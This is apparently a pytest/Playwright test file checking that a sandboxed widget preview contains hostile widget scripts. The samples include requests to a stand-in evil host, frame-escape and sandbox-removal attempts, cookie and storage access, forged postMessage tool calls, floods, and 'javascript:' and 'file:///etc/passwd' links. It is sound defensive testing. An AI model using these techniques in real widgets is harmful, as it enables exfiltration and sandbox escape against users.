"""Widgets that mean harm, or are only broken: none breaks the preview, leaves its frame or calls what it may not."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.async_api import expect

from tests.browser.chromium import needs_chromium
from tests.browser.preview.opened import EVIL, opened, widget

pytestmark = needs_chromium


@pytest.mark.parametrize(
    "script",
    ["begin().then(() => setTimeout(() => { for (;;); }, 50));", "for (;;);"],
    ids=["once it has begun", "as it is loaded"],
)
async def test_a_widget_that_loops_for_ever_is_noticed_and_can_be_stopped(tmp_path: Path, script: str) -> None:
    async with opened(tmp_path, widget(script)) as it:
        await it.works()
        alert = it.page.get_by_role("alert").filter(has_text="does not let go of its thread")
        # It is said after five seconds without an answer.
        await expect(alert).to_be_visible(timeout=20_000)
        await it.works()
        await it.finds("has not let go of its thread", "loop without an end")
        await it.page.get_by_role("button", name="Stop it").click()
        await expect(it.page.get_by_text("The widget is closed.")).to_be_visible()
        await it.works()


async def test_a_flood_of_messages_is_dropped_and_the_page_answers(tmp_path: Path) -> None:
    floods = widget("setInterval(() => { for (let i = 0; i < 300; i++) tell('notifications/message', { i }); }, 20);")
    async with opened(tmp_path, floods) as it:
        await it.finds("messages a second. What is more is dropped")
        await it.works()
        messages = await it.tab("Messages")
        assert await messages.get_by_role("listitem").count() <= 500


async def test_a_flood_past_the_sandbox_to_the_top_window_ends_the_widget(tmp_path: Path) -> None:
    floods = widget(
        """const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'keep_note' } };
        setInterval(() => { for (let i = 0; i < 5000; i++) top.postMessage(call, '*'); }, 10);"""
    )
    async with opened(tmp_path, floods) as it:
        await expect(it.page.get_by_text("The widget is closed.")).to_be_visible()
        await it.finds("a message to the top window")
        await it.works()
        assert await it.scene.engine.rooms.activity.recent(5) == [] or all(
            entry.tool == "show_note" for entry in await it.scene.engine.rooms.activity.recent(50)
        )


async def test_a_message_too_large_is_dropped(tmp_path: Path) -> None:
    async with opened(
        tmp_path, widget("begin().then(() => tell('notifications/message', { data: 'x'.repeat(3e6) }));")
    ) as it:
        await it.finds("a message of 3000 kB")
        await it.works()


async def test_blocked_hosts_are_not_asked_and_each_is_a_finding_with_its_remedy(tmp_path: Path) -> None:
    asks = widget(
        f"""fetch('{EVIL}/data').catch(() => {{}});
        new Image().src = '{EVIL}/pixel.png';
        navigator.sendBeacon('{EVIL}/beacon', 'x');
        try {{ new WebSocket('wss://evil.example.com/live'); }} catch {{}}
        const put = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
        put('script', {{ src: '{EVIL}/code.js' }});
        put('iframe', {{ src: '{EVIL}/frame' }});
        put('link', {{ rel: 'stylesheet', href: '{EVIL}/style.css' }});
        try {{ eval('1'); }} catch {{}}
        addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true);"""
    )
    async with opened(tmp_path, asks) as it:
        await it.finds("connect-src", f"{EVIL}/data", 'Widget(connect=["https://evil.example.com"])')
        await it.finds("img-src", 'Widget(resources=["https://evil.example.com"])')
        await it.finds("script-src", f"{EVIL}/code.js")
        await it.finds("style-src", f"{EVIL}/style.css")
        await it.finds("frame-src", EVIL, "does not leave its page")
        await it.finds("eval", "ChatGPT allows no eval")
        await it.works()


async def test_a_font_inside_the_file_is_blocked_as_in_chatgpt_and_is_a_finding(tmp_path: Path) -> None:
    brings = widget(
        """const font = "data:font/woff2;base64,d09GMgABAAAAAA==";
        const style = document.createElement('style');
        style.textContent = `@font-face { font-family: Own; src: url(${font}); } p { font-family: Own; }`;
        document.head.append(style);
        begin();"""
    )
    async with opened(tmp_path, brings) as it:
        await it.finds("font-src", "Its content policy blocked data", "use var(--font-sans)")
        await it.works()


async def test_no_widget_navigates_the_top_window_or_leaves_its_frame(tmp_path: Path) -> None:
    leaves = widget(
        f"""const put = (tag, given) => {{
          const element = Object.assign(document.createElement(tag), given);
          document.body.append(element);
          return element;
        }};
        const tries = [
          () => (top.location = '{EVIL}/top'), () => (top.location.href = '{EVIL}/top'),
          () => open('{EVIL}/named', '_top'),
          () => top.history.back(), () => (parent.location = '{EVIL}/parent'),
          () => parent.eval("location.href = '{EVIL}/proxy'"),
          () => {{ parent.frameElement?.removeAttribute('sandbox'); frameElement.removeAttribute('sandbox'); }},
          () => put('form', {{ action: '{EVIL}/form', target: '_top' }}).submit(),
          () => put('a', {{ href: '{EVIL}/link', target: '_top' }}).click(),
          () => (location.href = '{EVIL}/self'),
        ];
        for (const attempt of tries) try {{ attempt(); }} catch {{}}
        say('tried');"""
    )
    async with opened(tmp_path, leaves) as it:
        await it.finds("Its content policy blocked", EVIL)
        await it.works()
        assert [frame.url for frame in it.page.frames if "evil" in frame.url] == []


async def test_a_widget_that_takes_its_sandbox_apart_reaches_nothing_more(tmp_path: Path) -> None:
    takes = widget(
        """parent.document.body.append('mine');
        const page = parent.parent;
        const tries = [() => page.document, () => page.localStorage.length, () => top.document.cookie];
        const works = (attempt) => { try { attempt(); return true; } catch { return false; } };
        const reached = tries.filter(works);
        say(reached.length === 0 ? 'refused' : 'REACHED');
        parent.postMessage = null;
        const call = { name: 'keep_note', arguments: { words: 'x' } };
        const asked = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: call };
        for (let n = 0; n < 5; n++) top.postMessage(asked, '*');"""
    )
    async with opened(tmp_path, takes) as it:
        await expect(it.out).to_have_text("refused")
        await it.finds("a message to the top window")
        await it.works()
        assert all(entry.tool == "show_note" for entry in await it.scene.engine.rooms.activity.recent(50))


async def test_a_window_that_a_widget_opens_has_no_hold_of_the_preview(tmp_path: Path) -> None:
    opens = widget(
        """open('about:blank');
        const hold = () => say(open('about:blank') === null ? 'no hold' : 'hold');
        document.querySelector('#open').onclick = hold;""",
        "<p id=out>nothing yet</p><button id=open>Open</button>",
    )
    async with opened(tmp_path, opens) as it:
        await it.widget.locator("#open").click()
        await expect(it.out).to_have_text("no hold")
        for other in it.page.context.pages:
            assert other is it.page or await other.evaluate("window.opener") is None
        await it.works()


async def test_malformed_and_forged_messages_are_findings_and_nothing_more(tmp_path: Path) -> None:
    sends = widget(
        """begin().then(() => {
          const odd = [null, 3, 'text', [1], {}, { jsonrpc: '1.0', method: 'x' }, { jsonrpc: '2.0', method: 7 },
            { jsonrpc: '2.0', id: {}, method: 'ping' }, { jsonrpc: '2.0', id: 9, method: 'tools/call', params: [] },
            { jsonrpc: '2.0', id: 99, result: {} }, { jsonrpc: '2.0', id: 'host-1', result: {} },
            { jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} },
            { homeport: 'openai', id: 1, method: 'requestCheckout', args: [] },
            { homeport: 'openai', id: 'x', method: 'callTool', args: {} },
            { homeport: 'globals', globals: {} }, { homeport: 'observed', kind: {}, text: [] },
            { jsonrpc: '2.0', big: 10n, method: 'ping' }];
          const loop = { jsonrpc: '2.0', method: 'notifications/message', params: {} };
          loop.params.loop = loop;
          for (const message of [...odd, loop]) parent.postMessage(message, '*');
          host('ping').then(() => say('still heard'));
        });"""
    )
    async with opened(tmp_path, sends) as it:
        await expect(it.out).to_have_text("still heard")
        await it.finds("which no host understands")
        await it.finds("a malformed message", "its method is no text")
        await it.finds("answers nothing that was asked")
        await it.finds("a message of the sandbox around it")
        await it.finds("a forged call of window.openai")
        await it.works()


async def test_nothing_is_done_before_the_widget_is_initialized(tmp_path: Path) -> None:
    early = widget(
        """const call = { name: 'keep_note', arguments: { words: 'early' } };
        host('tools/call', call).catch((error) => say(error.message));
        tell('ui/notifications/size-changed', { height: 100 });
        tell('ui/notifications/initialized');"""
    )
    async with opened(tmp_path, early) as it:
        await expect(it.out).to_have_text("The widget is not initialized yet.")
        await it.finds("tools/call", "before ui/initialize was answered")
        await it.finds("ui/notifications/initialized", "comes once, after the answer")
        assert all(entry.tool == "show_note" for entry in await it.scene.engine.rooms.activity.recent(50))


async def test_a_widget_calls_only_tools_that_it_may_over_both_bridges(tmp_path: Path) -> None:
    calls = widget(
        """const said = [];
        const note = (name) => (error) => said.push(`${name}: ${error.message}`);
        begin().then(async () => {
          await host('tools/call', { name: 'publish_note', arguments: { words: 'x' } }).catch(note('apps'));
          await openai.callTool('publish_note', { words: 'x' }).catch(note('openai'));
          await openai.callTool('homeport-secret', {}).catch(note('unlisted'));
          const fine = await openai.callTool('keep_note', { words: 'mine' });
          say([...said, fine.structuredContent.words].join(' | '));
        });"""
    )
    async with opened(tmp_path, calls) as it:
        await expect(it.out).to_contain_text("| mine")
        text = await it.out.text_content() or ""
        assert "apps: publish_note is for the model only" in text
        assert "openai: publish_note is for the model only" in text
        assert "unlisted: No tool of this app" in text
        await it.finds("publish_note", "The widget's call was refused")
        called = {entry.tool for entry in await it.scene.engine.rooms.activity.recent(50)}
        assert called == {"show_note", "keep_note"}


async def test_a_widget_that_calls_without_end_is_refused_after_a_while(tmp_path: Path) -> None:
    calls = widget(
        """begin().then(async () => {
          let refused = 0;
          const call = { name: 'keep_note', arguments: { words: 'x' } };
          for (let n = 0; n < 40; n++) await host('tools/call', call).catch(() => refused++);
          say(`${refused} refused`);
        });"""
    )
    async with opened(tmp_path, calls) as it:
        await expect(it.out).to_have_text("10 refused")
        await it.finds("keep_note", "calls more than 30 times")


async def test_a_link_that_is_no_web_address_is_refused_and_none_is_opened_by_itself(tmp_path: Path) -> None:
    links = widget(
        """begin().then(async () => {
          const said = [];
          for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,x', 3])
            await host('ui/open-link', { url }).catch((error) => said.push(error.message));
          await host('ui/open-link', { url: 'https://notes.example.com/a' });
          await openai.openExternal({ href: 'https://other.example.com/b' });
          say(said.length);
        });"""
    )
    async with opened(tmp_path, links) as it:
        await expect(it.out).to_have_text("4")
        chat = await it.tab("Chat")
        opened_links = chat.get_by_role("link")
        await expect(opened_links).to_have_text(["https://notes.example.com/a", "https://other.example.com/b"])
        await expect(chat.get_by_role("listitem").nth(0)).not_to_contain_text("asks the person first")
        await expect(chat.get_by_role("listitem").nth(1)).to_contain_text("asks the person first")
        assert len(it.page.context.pages) == 1
